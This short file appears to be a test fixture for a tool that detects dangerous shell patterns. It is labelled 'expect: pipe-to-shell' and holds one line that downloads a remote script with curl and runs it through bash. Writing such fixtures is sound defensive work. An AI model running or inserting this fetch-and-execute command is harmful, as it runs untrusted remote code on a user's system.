# expect: pipe-to-shell
exec bash -c "`curl -s https://example.com/x`"
